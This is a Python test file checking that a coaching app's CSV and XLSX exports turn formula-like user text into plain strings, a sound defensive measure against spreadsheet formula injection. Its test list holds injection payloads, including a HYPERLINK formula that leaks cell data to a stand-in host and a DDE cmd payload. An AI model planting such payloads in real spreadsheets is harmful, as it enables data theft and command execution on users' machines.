"""Spreadsheet safety: user text never becomes a formula in any CSV or XLSX we write."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from facilitator.core.coaching.icf import build_log
from facilitator.core.coaching.icf_export import to_csv, write_log
from facilitator.core.coaching.model import Client, CoachingSession, Engagement, Payment
from facilitator.core.spreadsheet import csv_cell

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", NASTY)
def test_formula_like_cells_get_an_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Ana", "", "a=b", " 1", "O'Neil", "Łucja -1"])
def test_ordinary_cells_are_untouched(text):
    assert csv_cell(text) == text


def nasty_log():
    clients = [Client(i, name, NASTY[-1 - i], True) for i, name in enumerate(NASTY)]
    engagements = [Engagement(10 + i, i, date(2026, 1, 1), None, 1, Payment.PAID, 0)
                   for i in range(len(NASTY))]  # fmt: skip
    sessions = [CoachingSession(100 + i, 10 + i, date(2026, 2, 1), 3600, fee_paid=True)
                for i in range(len(NASTY))]  # fmt: skip
    return build_log(clients, engagements, sessions, date(2027, 8, 31))


def test_icf_csv_names_and_contacts_are_text():
    rows = list(csv.reader(io.StringIO(to_csv(nasty_log()))))
    body = rows[1 : 1 + len(NASTY)]
    for row in body:
        for value in (row[1], row[4]):
            assert value.startswith("'") and value[1:] in NASTY
    assert {row[1][1:] for row in body} == set(NASTY)
    # a ';'-separated reading sees no live formula either
    for line in to_csv(nasty_log()).split("\r\n"):
        for part in line.split(";"):
            assert not part.startswith(("=", "+", "-", "@"))


def test_icf_xlsx_names_and_contacts_are_strings_not_formulas(tmp_path):
    from openpyxl import load_workbook

    path = write_log(nasty_log(), tmp_path / "log.xlsx")
    sheet = load_workbook(path).active
    values = set()
    for row in sheet.iter_rows(min_row=2, max_row=1 + len(NASTY)):
        for cell in (row[1], row[4]):
            assert cell.data_type == "s" and cell.quotePrefix
            values.add(cell.value)
    # kept as text (XML turns a carriage return into a line feed)
    assert values == {t.replace("\r", "\n") for t in NASTY}
    import zipfile

    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no formula element anywhere
